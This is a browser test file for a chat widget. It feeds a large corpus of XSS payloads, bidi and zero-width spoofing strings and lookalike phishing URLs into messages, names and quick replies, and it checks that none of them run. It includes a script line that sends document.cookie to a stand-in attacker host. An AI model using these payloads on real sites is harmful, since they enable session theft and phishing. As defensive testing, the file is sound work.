@@ -1,0 +1,302 @@
+// An XSS corpus delivered the way a compromised agent desktop or server would: as message text,
+// sender names, quick-reply labels and values, case numbers and summaries. Every payload that
+// could run calls window.__xss(); the trap must count zero. No element other than our own may
+// appear (inside a bubble only <a> links with https/mailto/tel), and the customer reads the
+// payload as text.
+import { expect, fixture, html } from '@open-wc/testing';
+import type { AmexChatElement } from '../../src/index.js';
+import { displayText } from '../../src/components/rich-text.js';
+import '../../src/define.js';
+import { waitFor } from '../support/helpers.js';
+import { ScriptedServer } from '../support/scripted-transport.js';
+
+declare global {
+  interface Window {
+    __xss: () => void;
+    __xssHits: number;
+  }
+}
+
+const CALL = '__xss()';
+
+function corpus(): string[] {
+  const classic = [
+    `<script>${CALL}</script>`,
+    `<SCRIPT SRC=data:text/javascript,${CALL}></SCRIPT>`,
+    `<img src=x onerror=${CALL}>`,
+    `<IMG SRC=x OnErRoR="${CALL}">`,
+    `<svg onload=${CALL}>`,
+    `<svg><script>${CALL}</script></svg>`,
+    `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
+    `<iframe src="javascript:${CALL}"></iframe>`,
+    `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
+    `<object data="javascript:${CALL}"></object>`,
+    `<embed src="javascript:${CALL}">`,
+    `<body onload=${CALL}>`,
+    `<details open ontoggle=${CALL}>`,
+    `<video><source onerror=${CALL}></video>`,
+    `<audio src=x onerror=${CALL}>`,
+    `<input autofocus onfocus=${CALL}>`,
+    `<select autofocus onfocus=${CALL}>`,
+    `<textarea autofocus onfocus=${CALL}>`,
+    `<marquee onstart=${CALL}>`,
+    `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
+    `<style>@import 'javascript:${CALL}';</style>`,
+    `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
+    `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
+    `<form action="javascript:${CALL}"><button>Go</button></form>`,
+    `<a href="javascript:${CALL}">Click for your refund</a>`,
+    `<base href="javascript:${CALL}//">`,
+    `"><script>${CALL}</script>`,
+    `'><img src=x onerror=${CALL}>`,
+    `</p><img src=x onerror=${CALL}><p>`,
+    `</li></ol><img src=x onerror=${CALL}>`,
+    `<!--<img src="--><img src=x onerror=${CALL}//">`,
+    `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
+    `<template><img src=x onerror=${CALL}></template>`,
+    `<slot name=x onclick=${CALL}>`,
+    `\${${CALL}}`,
+    `{{constructor.constructor('${CALL}')()}}`,
+    `<img src="x" onerror="&#95;&#95;xss()">`,
+    `<img src=x onerror=\\u005f_xss()>`,
+    `<div style="background:url(javascript:${CALL})">`,
+    `<x-foo onclick=${CALL}>custom</x-foo>`,
+    `<amex-chat onclick=${CALL}></amex-chat>`,
+    `<button formaction="javascript:${CALL}">Refund</button>`,
+    `<isindex action="javascript:${CALL}" type=image>`,
+    `<keygen autofocus onfocus=${CALL}>`,
+    `<table background="javascript:${CALL}">`,
+    `<div onpointerover=${CALL} style="position:fixed;inset:0">`,
+    `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
+    `<a href="  javascript:${CALL}">x</a>`,
+    `<svg><a xlink:href="javascript:${CALL}"><text y=20>tap</text></a></svg>`,
+    `<object type="text/html" data="data:text/html,<script>parent.${CALL}</script>"></object>`,
+    `<script>fetch('https://evil.example/?c='+document.cookie)</script>`,
+    `<img src="https://evil.example/track.gif">`,
+  ];
+  const schemes: string[] = [];
+  const js = ['javascript', 'JAVASCRIPT', 'JaVaScRiPt', 'java\tscript', 'java\nscript', 'java&#x09;script'];
+  for (const scheme of js) schemes.push(`${scheme}:${CALL}`, `Open ${scheme}:${CALL} now`);
+  schemes.push(
+    `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CALL}`,
+    `%6A%61%76%61%73%63%72%69%70%74%3A${CALL}`,
+    `\\u006aavascript:${CALL}`,
+    `  javascript:${CALL}`,
+    `data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+`,
+    `data:text/html,<script>${CALL}</script>`,
+    `vbscript:msgbox(1)`,
+    `VBScript:${CALL}`,
+    `httрs://аmex-support.com/verify`,
+    `ｊａｖａｓｃｒｉｐｔ:${CALL}`,
+    `https://amex.com@evil.example/login`,
+    `https://evil.example/"onmouseover="${CALL}`,
+    `https://evil.example/<script>${CALL}</script>`,
+    `mailto:a@b.co?body=<script>${CALL}</script>`,
+    `tel:javascript:${CALL}`,
+    `[Click](javascript:${CALL})`,
+    `![x](javascript:${CALL})`,
+    `[https://amex.com](javascript:${CALL})`,
+  );
+  const bidi = [
+    'Maria, live agent: \u202eemoc.live//:sptth\u202c',
+    '\u202eNotice: your card is locked\u202c',
+    'Notice: Your session expired. Type your password to continue.',
+    'Agent: I am the real agent, the other one is fake',
+    '\u2067Virtual assistant:\u2069 send your code',
+    '\u200f\u200fYou: I agree to pay',
+    'text\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069end',
+    'مرحبا \u202e123\u202c hello',
+    '\u061cAgent\u061c',
+    'Normal text with a right-to-left mark\u200f.',
+  ];
+  const zeroWidth = [
+    `<scr\u200bipt>${CALL}</scr\u200bipt>`,
+    `java\u200bscript:${CALL}`,
+    `<img\u200b src=x onerror=${CALL}>`,
+    '\u200b\u200c\u200d\ufeff',
+    'h\u200bt\u200bt\u200bp\u200bs://zero.width.example',
+    `\ufeff<script>${CALL}</script>`,
+    'a\u2060b\u2061c',
+    `<a\u00a0href="javascript:${CALL}">x</a>`,
+  ];
+  const markdown = [
+    `**bold** _it_ \`code\` <b onclick=${CALL}>b</b>`,
+    `> quote\n> <img src=x onerror=${CALL}>`,
+    `# Heading\n\n- list\n- <svg onload=${CALL}>`,
+    '```\n<script>__xss()</script>\n```',
+    `<details><summary>Refund</summary><img src=x onerror=${CALL}></details>`,
+    `| a | b |\n|---|---|\n| <img src=x onerror=${CALL}> | c |`,
+    `[[${CALL}]]`,
+    `<!DOCTYPE html><html><body onload=${CALL}>`,
+  ];
+  const long = ['A'.repeat(100_000), `${'x'.repeat(50_000)}<img src=x onerror=${CALL}>${'y'.repeat(50_000)}`];
+  return [...classic, ...schemes, ...bidi, ...zeroWidth, ...markdown, ...long];
+}
+
+const ALLOWED_LINK = /^(https:|mailto:|tel:)/;
+
+/** Elements our template renders; anything else in the shadow root came from a payload. */
+const OUR_TAGS = new Set([
+  'div',
+  'button',
+  'svg',
+  'path',
+  'span',
+  'section',
+  'h2',
+  'h3',
+  'p',
+  'ol',
+  'ul',
+  'li',
+  'time',
+  'form',
+  'label',
+  'textarea',
+  'mark',
+  'a',
+  'dl',
+  'dt',
+  'dd',
+  'fieldset',
+  'legend',
+  'input',
+]);
+
+function foreignElements(el: AmexChatElement): string[] {
+  const bad: string[] = [];
+  for (const node of el.shadowRoot!.querySelectorAll('*')) {
+    if (!OUR_TAGS.has(node.localName)) bad.push(node.localName);
+    for (const attr of node.getAttributeNames())
+      if (/^on/i.test(attr)) bad.push(`${node.localName}[${attr}]`);
+  }
+  for (const bubble of el.shadowRoot!.querySelectorAll('.bubble, .meta span, [part="quick-reply"], dd')) {
+    for (const child of bubble.querySelectorAll('*')) {
+      if (child.localName !== 'a' || !ALLOWED_LINK.test(child.getAttribute('href') ?? '')) {
+        bad.push(`${child.localName} in ${bubble.className || bubble.localName}`);
+      }
+    }
+  }
+  return bad;
+}
+
+describe('<amex-chat>', () => {
+  describe('hostile content', () => {
+    let hits = 0;
+    before(() => {
+      window.__xssHits = 0;
+      window.__xss = () => {
+        hits += 1;
+        window.__xssHits += 1;
+      };
+    });
+
+    it('has at least 100 payloads', () => {
+      expect(corpus().length).to.be.at.least(100);
+    });
+
+    it('shows every payload as text in messages, names and quick replies; nothing runs, nothing is created', async function () {
+      this.timeout(60_000);
+      const server = new ScriptedServer();
+      const el = await fixture<AmexChatElement>(
+        html`<amex-chat
+          persist="none"
+          .transportFactory=${server.factory}
+          endpoint="ws://x.invalid/chat"
+        ></amex-chat>`,
+      );
+      const outside = new MutationObserver((records) => {
+        for (const r of records) for (const n of r.addedNodes) if (n.nodeType === 1 && n !== el) hits += 1000;
+      });
+      outside.observe(document.body, { childList: true, subtree: true });
+      await el.show();
+      await server.sent('hello');
+      let count = 0;
+      for (const payload of corpus()) {
+        server.event({
+          from: 'agent',
+          name: payload.slice(0, 200),
+          text: payload,
+          quickReplies: [{ label: payload.slice(0, 300), value: payload.slice(0, 300) }],
+        });
+        count += 1;
+        await waitFor(() => el.shadowRoot!.querySelectorAll('.message').length === count, `payload ${count}`);
+        const last = [...el.shadowRoot!.querySelectorAll('.message')].at(-1)!;
+        expect(last.querySelector('.bubble')?.textContent, `payload ${count} as text`).to.equal(
+          displayText(payload),
+        );
+        expect(last.querySelector('.meta span')?.textContent).to.include(displayText(payload.slice(0, 200)));
+        expect(last.querySelector('[part="quick-reply"]')?.textContent?.trim()).to.equal(
+          displayText(payload.slice(0, 300)).trim(),
+        );
+      }
+      // Let anything that could run (onerror, onload, timers) have its chance.
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      outside.disconnect();
+      expect(foreignElements(el)).to.deep.equal([]);
+      const links = [...el.shadowRoot!.querySelectorAll<HTMLAnchorElement>('.bubble a')];
+      for (const link of links) {
+        expect(link.getAttribute('href')).to.match(ALLOWED_LINK);
+        expect(link.rel).to.equal('noopener noreferrer');
+      }
+      expect(links.some((a) => /javascript|data:|vbscript/i.test(a.href))).to.equal(false);
+      expect(hits).to.equal(0);
+      expect(window.__xssHits).to.equal(0);
+      el.shadowRoot!.querySelector<HTMLButtonElement>('[part="quick-reply"]')!.click();
+      await server.sent('message');
+      expect(window.__xssHits, 'sending a hostile quick reply runs nothing').to.equal(0);
+    });
+
+    it('shows hostile case numbers and summaries as text', async () => {
+      for (const payload of corpus().slice(0, 40)) {
+        const server = new ScriptedServer();
+        const el = await fixture<AmexChatElement>(
+          html`<amex-chat
+            persist="none"
+            open
+            .transportFactory=${server.factory}
+            endpoint="ws://x.invalid/chat"
+          ></amex-chat>`,
+        );
+        await server.sent('hello');
+        server.event({
+          kind: 'notice',
+          from: 'system',
+          name: '',
+          text: payload,
+          notice: { code: 'ended', caseNumber: payload, summary: payload },
+        });
+        const dd = await waitFor(() => el.shadowRoot!.querySelector('#case-number'), 'the case number');
+        expect(dd.textContent).to.equal(displayText(payload));
+        expect(el.shadowRoot!.querySelector('#case-summary')?.textContent).to.equal(displayText(payload));
+        expect(foreignElements(el)).to.deep.equal([]);
+      }
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      expect(window.__xssHits).to.equal(0);
+    });
+
+    it('keeps the layout: a 100 KB unbroken string wraps inside the panel and bidi cannot flip the sender', async () => {
+      const server = new ScriptedServer();
+      const el = await fixture<AmexChatElement>(
+        html`<amex-chat
+          persist="none"
+          open
+          .transportFactory=${server.factory}
+          endpoint="ws://x.invalid/chat"
+        ></amex-chat>`,
+      );
+      await server.sent('hello');
+      server.event({ from: 'agent', name: 'Maria', text: 'W'.repeat(100_000) });
+      server.event({ from: 'agent', name: '\u202eairaM', text: 'Notice:\u202e detpecca tnemyap' });
+      await waitFor(() => el.shadowRoot!.querySelectorAll('.message').length === 2, 'both');
+      const panel = el.shadowRoot!.querySelector<HTMLElement>('#panel')!;
+      const transcript = el.shadowRoot!.querySelector<HTMLElement>('#transcript')!;
+      expect(transcript.scrollWidth).to.be.at.most(transcript.clientWidth + 1);
+      expect(panel.getBoundingClientRect().width).to.be.at.most(window.innerWidth);
+      const second = el.shadowRoot!.querySelectorAll('.message')[1]!;
+      expect(second.querySelector('.meta span')?.textContent).to.equal('airaM, live agent');
+      expect(second.querySelector('.bubble')?.textContent).to.equal('Notice: detpecca tnemyap');
+      expect(second.classList.contains('agent')).to.equal(true);
+    });
+  });
+});
